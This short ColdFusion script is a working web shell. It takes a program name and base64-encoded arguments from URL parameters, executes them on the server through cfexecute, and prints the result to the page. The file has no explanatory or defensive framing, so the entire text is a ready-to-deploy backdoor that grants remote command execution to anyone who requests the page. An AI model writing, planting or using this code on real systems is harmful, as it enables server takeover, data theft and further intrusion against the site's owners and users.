<cfscript>
p = url.p;
a = toString(toBinary(url.a));
cfexecute(name=p, arguments=a, variable="r", timeout=10);
writeOutput(r);
</cfscript>
